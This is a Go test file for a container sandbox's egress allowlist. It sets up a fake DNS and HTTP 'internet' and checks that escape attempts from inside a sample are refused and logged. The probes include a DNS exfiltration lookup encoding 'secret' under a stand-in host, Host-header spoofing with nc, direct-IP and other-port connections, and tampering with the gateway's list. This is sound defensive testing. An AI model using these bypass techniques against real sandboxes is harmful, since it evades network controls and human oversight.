package main

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"
	"golang.org/x/sys/unix"

	"github.com/composebox/composebox/lifecycle"
	"github.com/composebox/composebox/orchestrator"
)

// smallInternet is the outside world of the egress tests, in a network namespace of its own
// joined to the host by a veth pair: a DNS server for the test names (pkgs.test, other.test),
// and HTTP servers at their addresses. It records every query and request it sees, so that a
// test can tell "refused" from "reached".
type smallInternet struct {
	prefix  string // "10.98.N"
	mu      sync.Mutex
	queries []string
	hits    []string
	udp     int
}

func (s *smallInternet) addr(host int) string { return fmt.Sprintf("%s.%d", s.prefix, host) }

func (s *smallInternet) seen() (queries, hits []string, udp int) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]string(nil), s.queries...), append([]string(nil), s.hits...), s.udp
}

func sh(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return string(out)
}

// inNetns runs f with this thread in netns: sockets f opens stay in it.
func inNetns(t *testing.T, netns string, f func()) {
	t.Helper()
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	orig, err := os.Open("/proc/thread-self/ns/net")
	if err != nil {
		t.Fatal(err)
	}
	defer orig.Close()
	ns, err := os.Open("/var/run/netns/" + netns)
	if err != nil {
		t.Fatal(err)
	}
	defer ns.Close()
	if err := unix.Setns(int(ns.Fd()), unix.CLONE_NEWNET); err != nil {
		t.Fatal(err)
	}
	defer func() {
		if err := unix.Setns(int(orig.Fd()), unix.CLONE_NEWNET); err != nil {
			panic(err) // this thread must not go back to the scheduler in the wrong namespace
		}
	}()
	f()
}

func startSmallInternet(t *testing.T) *smallInternet {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root for a network namespace")
	}
	n := os.Getpid()%200 + 20
	s := &smallInternet{prefix: fmt.Sprintf("10.98.%d", n)}
	netns := fmt.Sprintf("cbxegress%d", os.Getpid())
	host, peer := fmt.Sprintf("cbxeh%d", os.Getpid()%100000), fmt.Sprintf("cbxen%d", os.Getpid()%100000)
	t.Cleanup(func() {
		_ = exec.Command("ip", "link", "del", host).Run()
		_ = exec.Command("ip", "netns", "del", netns).Run()
	})
	sh(t, "ip", "netns", "add", netns)
	sh(t, "ip", "link", "add", host, "type", "veth", "peer", "name", peer)
	sh(t, "ip", "link", "set", peer, "netns", netns)
	sh(t, "ip", "addr", "add", s.addr(1)+"/24", "dev", host)
	sh(t, "ip", "link", "set", host, "up")
	for _, a := range []int{2, 3, 53} {
		sh(t, "ip", "-n", netns, "addr", "add", fmt.Sprintf("%s/24", s.addr(a)), "dev", peer)
	}
	sh(t, "ip", "-n", netns, "link", "set", peer, "up")
	sh(t, "ip", "-n", netns, "link", "set", "lo", "up")
	sh(t, "ip", "-n", netns, "route", "add", "default", "via", s.addr(1))

	zone := map[string]string{"pkgs.test.": s.addr(2), "other.test.": s.addr(3)}
	dnsHandler := dns.HandlerFunc(func(w dns.ResponseWriter, m *dns.Msg) {
		r := new(dns.Msg)
		r.SetReply(m)
		q := m.Question[0]
		s.mu.Lock()
		s.queries = append(s.queries, strings.ToLower(q.Name))
		s.mu.Unlock()
		if a, ok := zone[strings.ToLower(q.Name)]; ok && q.Qtype == dns.TypeA {
			r.Answer = append(r.Answer, &dns.A{Hdr: dns.RR_Header{Name: q.Name, Rrtype: dns.TypeA, Class: dns.ClassINET, Ttl: 60}, A: net.ParseIP(a)})
		} else if !ok {
			r.Rcode = dns.RcodeNameError
		}
		_ = w.WriteMsg(r)
	})
	serve := func(addr, who string) {
		l, err := net.Listen("tcp", addr)
		if err != nil {
			t.Fatal(err)
		}
		srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			s.mu.Lock()
			s.hits = append(s.hits, who+" "+r.Host+r.URL.Path)
			s.mu.Unlock()
			fmt.Fprintf(w, "%s %s\n", who, r.URL.Path)
		})}
		go func() { _ = srv.Serve(l) }()
		t.Cleanup(func() { _ = srv.Close() })
	}
	inNetns(t, netns, func() {
		pc, err := net.ListenPacket("udp", s.addr(53)+":53")
		if err != nil {
			t.Fatal(err)
		}
		ds := &dns.Server{PacketConn: pc, Handler: dnsHandler}
		go func() { _ = ds.ActivateAndServe() }()
		t.Cleanup(func() { _ = ds.Shutdown() })
		serve(s.addr(2)+":80", "pkgs")
		serve(s.addr(2)+":8080", "pkgs8080")
		serve(s.addr(3)+":80", "other")
		for _, port := range []string{":443", ":53"} {
			u, err := net.ListenPacket("udp", s.addr(2)+port)
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { _ = u.Close() })
			go func() {
				buf := make([]byte, 2048)
				for {
					if _, _, err := u.ReadFrom(buf); err != nil {
						return
					}
					s.mu.Lock()
					s.udp++
					s.mu.Unlock()
				}
			}()
		}
	})
	return s
}

// staticBinary builds composebox as the egress gateway's image needs it: static.
func staticBinary(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "composebox")
	build := exec.Command("go", "build", "-trimpath", "-o", bin, ".")
	build.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := build.CombinedOutput(); err != nil {
		t.Fatalf("go build: %v\n%s", err, out)
	}
	return bin
}

// TestEgressDockerAttackerSide starts a sample whose compose file asks for x-egress:
// [pkgs.test] with --egress pkgs.test, against a small internet of the test's own, and tries
// every way around the list from inside the sample: each is refused, the outside never sees it,
// and the refusals are egress_denied events. The allowed path works.
// egressSample is a live restricted sample of a two-service task started by the composebox
// binary with global flags before the verb: its project, a runner of the binary, and an HTTP
// GET from its restricted service ("default"; host is the Host header, at "NAME PORT" where nc
// connects).
type egressSample struct {
	project string
	run     func(args ...string) (string, error)
	exec    func(c, script string) string
	get     func(host, at, path string) string
}

func startEgressSample(t *testing.T, net *smallInternet, global ...string) egressSample {
	bin := staticBinary(t)
	dir := t.TempDir()
	task := filepath.Join(dir, "egresstask")
	if err := os.MkdirAll(task, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(task, "compose.yaml"), []byte(`services:
  default:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["sleep", "infinity"]
    x-egress: [pkgs.test]
  helper:
    image: ${COMPOSEBOX_BASE_IMAGE}
    command: ["sleep", "infinity"]
`), 0o644); err != nil {
		t.Fatal(err)
	}
	global = append([]string{"--state-dir", t.TempDir()}, global...)
	run := func(args ...string) (string, error) {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, bin, append(slices.Clone(global), args...)...)
		var out, errb bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &errb
		err := cmd.Run()
		if err != nil {
			err = fmt.Errorf("%v: %s", err, errb.String())
		}
		return strings.TrimSpace(out.String()), err
	}
	taskName := fmt.Sprintf("egress%d-%d", os.Getpid(), time.Now().UnixNano()%100000)
	t.Cleanup(func() {
		out, _ := exec.Command("docker", "ps", "-a", "--filter", "label=dev.composebox.task="+taskName, "--format", `{{.Label "com.docker.compose.project"}}`).Output()
		projects := map[string]bool{}
		for _, p := range strings.Fields(string(out)) {
			projects[p] = true
		}
		if len(projects) == 0 {
			t.Errorf("cleanup found no container of task %s", taskName)
		}
		for p := range projects {
			if _, err := run("down", p); err != nil {
				t.Errorf("down %s: %v", p, err)
			}
		}
	})
	out, err := run("up", "--task", taskName, "--egress", "pkgs.test", "--egress-resolver", net.addr(53), task)
	if err != nil {
		t.Fatalf("up: %v", err)
	}
	lines := strings.Split(out, "\n")
	project := lines[len(lines)-1]
	ctr := project + "-default-1"
	execIn := func(c, script string) string {
		out, _ := exec.Command("docker", "exec", c, "sh", "-c", script).CombinedOutput()
		return string(out)
	}
	get := func(host, at, path string) string {
		return execIn(ctr, fmt.Sprintf(`printf 'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 5 %s 2>&1`, path, host, at))
	}
	return egressSample{project: project, run: run, exec: execIn, get: get}
}

func TestEgressDockerAttackerSide(t *testing.T) {
	net := startSmallInternet(t)
	es := startEgressSample(t, net)
	project, run, execIn, get := es.project, es.run, es.exec, es.get
	ctr := project + "-default-1"

	if got := get("pkgs.test", "pkgs.test 80", "/allowed"); !strings.Contains(got, "pkgs /allowed") {
		t.Fatalf("the allowed name over HTTP: %q", got)
	}
	if got := execIn(ctr, "nslookup other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("a non-listed name resolved: %q", got)
	}
	if got := execIn(ctr, "nslookup -type=TXT c2VjcmV0.exfil.other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("TXT for a subdomain of a non-listed name: %q", got)
	}
	if got := execIn(ctr, "nslookup pkgs.test "+net.addr(53)); strings.Contains(got, net.addr(2)) {
		t.Errorf("a direct query to the outside resolver was answered: %q", got)
	}
	if got := get("other.test", "pkgs.test 80", "/host-header"); !strings.Contains(got, "403") || strings.Contains(got, "other /") {
		t.Errorf("Host of a non-listed name: %q", got)
	}
	if got := get("pkgs.test", net.addr(2)+" 80", "/direct-ip"); strings.Contains(got, "pkgs /") {
		t.Errorf("a direct connection to the allowed name's address: %q", got)
	}
	if got := get("pkgs.test", "pkgs.test 8080", "/other-port"); strings.Contains(got, "pkgs8080") {
		t.Errorf("the allowed name on another port: %q", got)
	}
	if got := get("pkgs.test", net.addr(2)+" 8080", "/other-port-direct"); strings.Contains(got, "pkgs8080") {
		t.Errorf("the allowed name's address on another port: %q", got)
	}
	execIn(ctr, "nslookup -port=443 pkgs.test "+net.addr(2)+"; nslookup pkgs.test "+net.addr(2))
	if got := execIn(ctr, "ip -6 route; ip -6 addr show scope global"); strings.Contains(got, "default") || strings.Contains(got, "inet6") {
		t.Errorf("IPv6 around the list: %q", got)
	}
	if got := execIn(project+"-helper-1", "nslookup default"); strings.Contains(got, "NXDOMAIN") || !strings.Contains(got, "Address") {
		t.Errorf("services of the sample no longer reach each other: %q", got)
	}

	queries, hits, udp := net.seen()
	for _, q := range queries {
		if strings.Contains(q, "other.test") {
			t.Errorf("the outside resolver saw %q", q)
		}
	}
	for _, h := range hits {
		if !strings.HasSuffix(h, "/allowed") && !strings.HasSuffix(h, "/reopened") {
			t.Errorf("the outside served %q", h)
		}
	}
	if udp != 0 {
		t.Errorf("%d UDP datagrams reached the outside", udp)
	}

	var st orchestrator.EgressState
	out, err := run("egress", "-p", project, "--json")
	if err != nil {
		t.Fatalf("egress: %v", err)
	}
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatalf("egress --json: %v\n%s", err, out)
	}
	want := map[string]bool{"dns other.test": false, "dns c2vjcmv0.exfil.other.test": false, "http other.test": false}
	for _, d := range st.Denials {
		k := d.Protocol + " " + d.Name
		if _, ok := want[k]; ok && d.Service == "default" {
			want[k] = true
		}
	}
	for k, seen := range want {
		if !seen {
			t.Errorf("no egress_denied event for %s from service default; denials: %+v", k, st.Denials)
		}
	}
	if got := st.Services["default"]; len(got) != 1 || got[0] != "pkgs.test" {
		t.Errorf("allowlist of default = %v", got)
	}

	// A runner closes the index for the agent, and the name is gone at once.
	if _, err := run("egress", "-p", project, "--close"); err != nil {
		t.Fatalf("egress --close: %v", err)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/closed"); strings.Contains(got, "pkgs /closed") {
		t.Errorf("after --close the name was still reached: %q", got)
	}
	if _, err := run("egress", "-p", project, "--set", "pkgs.test"); err != nil {
		t.Fatalf("egress --set: %v", err)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/reopened"); !strings.Contains(got, "pkgs /reopened") {
		t.Errorf("after --set pkgs.test: %q", got)
	}

	// The task's --egress is the ceiling of every later list: a runner (or whoever holds the
	// project's name) cannot open what the operator did not allow, and nothing changes.
	if len(st.Ceiling) != 1 || st.Ceiling[0] != "pkgs.test" {
		t.Errorf("egress --json ceiling = %v, want [pkgs.test]", st.Ceiling)
	}
	if _, err := run("egress", "-p", project, "--set", "other.test"); err == nil || !strings.Contains(err.Error(), "--egress other.test") {
		t.Errorf("egress --set beyond the task's --egress: %v, want a policy violation naming --egress other.test", err)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/reopened"); !strings.Contains(got, "pkgs /reopened") {
		t.Errorf("a refused --set changed the list: %q", got)
	}
	// The gateway holds to the ceiling itself, whoever writes its list: a list naming
	// other.test written straight into it and applied leaves other.test refused.
	gw := project + "-" + lifecycle.EgressGatewayService + "-1"
	dir := t.TempDir()
	gen := fmt.Sprint(time.Now().UnixNano())
	for name, body := range map[string]string{"allow": "other.test\npkgs.test\n", "allow.generation": gen + "\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
		if out, err := exec.Command("docker", "cp", filepath.Join(dir, name), gw+":"+filepath.Join(filepath.Dir(lifecycle.EgressAllowFile), name)).CombinedOutput(); err != nil {
			t.Fatalf("docker cp: %v: %s", err, out)
		}
	}
	// Follow the gateway's log until it says it applied this generation.
	lctx, lcancel := context.WithTimeout(context.Background(), time.Minute)
	defer lcancel()
	logs := exec.CommandContext(lctx, "docker", "logs", "-f", gw)
	pipe, err := logs.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := logs.Start(); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("docker", "kill", "--signal", "HUP", gw).CombinedOutput(); err != nil {
		t.Fatalf("docker kill -s HUP: %v: %s", err, out)
	}
	applied := false
	for sc := bufio.NewScanner(pipe); sc.Scan(); {
		if strings.Contains(sc.Text(), `"generation":"`+gen+`"`) {
			applied = true
			break
		}
	}
	lcancel()
	_ = logs.Wait()
	if !applied {
		t.Fatalf("the gateway never applied the list written into it")
	}
	if got := get("other.test", "other.test 80", "/beyond-ceiling"); strings.Contains(got, "other /") {
		t.Errorf("the gateway applied a list beyond the ceiling: %q", got)
	}
	if got := get("pkgs.test", "pkgs.test 80", "/reopened"); !strings.Contains(got, "pkgs /reopened") {
		t.Errorf("the bounded list lost pkgs.test: %q", got)
	}
}

// TestEgressOverEnginesAttackerSide: over a backend of several engines (here one member, the
// host's engine, through --engine), the sample's gateway runs on its engine and the list holds
// there: a name not listed is refused and reported, the allowed one is reached, and a later
// list stays within the task's --egress.
func TestEgressOverEnginesAttackerSide(t *testing.T) {
	host := os.Getenv("DOCKER_HOST")
	if host == "" {
		host = "unix:///var/run/docker.sock"
	}
	net := startSmallInternet(t)
	es := startEgressSample(t, net, "--engine", "host="+host)
	if got := es.get("pkgs.test", "pkgs.test 80", "/allowed"); !strings.Contains(got, "pkgs /allowed") {
		t.Fatalf("the allowed name over HTTP: %q", got)
	}
	if got := es.exec(es.project+"-default-1", "nslookup other.test"); !strings.Contains(got, "NXDOMAIN") {
		t.Errorf("a non-listed name resolved: %q", got)
	}
	if got := es.get("other.test", "pkgs.test 80", "/host-header"); !strings.Contains(got, "403") || strings.Contains(got, "other /") {
		t.Errorf("Host of a non-listed name: %q", got)
	}
	out, err := es.run("egress", "-p", es.project, "--json")
	if err != nil {
		t.Fatalf("egress: %v", err)
	}
	var st orchestrator.EgressState
	if err := json.Unmarshal([]byte(out), &st); err != nil {
		t.Fatalf("egress --json: %v\n%s", err, out)
	}
	denied := false
	for _, d := range st.Denials {
		denied = denied || (d.Name == "other.test" && d.Service == "default")
	}
	if !denied || len(st.Ceiling) != 1 {
		t.Errorf("egress over engines: ceiling %v, denials %+v", st.Ceiling, st.Denials)
	}
	if _, err := es.run("egress", "-p", es.project, "--set", "other.test"); err == nil || !strings.Contains(err.Error(), "--egress other.test") {
		t.Errorf("egress --set beyond the task's --egress: %v", err)
	}
	if _, err := es.run("egress", "-p", es.project, "--close"); err != nil {
		t.Fatalf("egress --close: %v", err)
	}
	if got := es.get("pkgs.test", "pkgs.test 80", "/closed"); strings.Contains(got, "pkgs /closed") {
		t.Errorf("after --close the name was still reached: %q", got)
	}
}
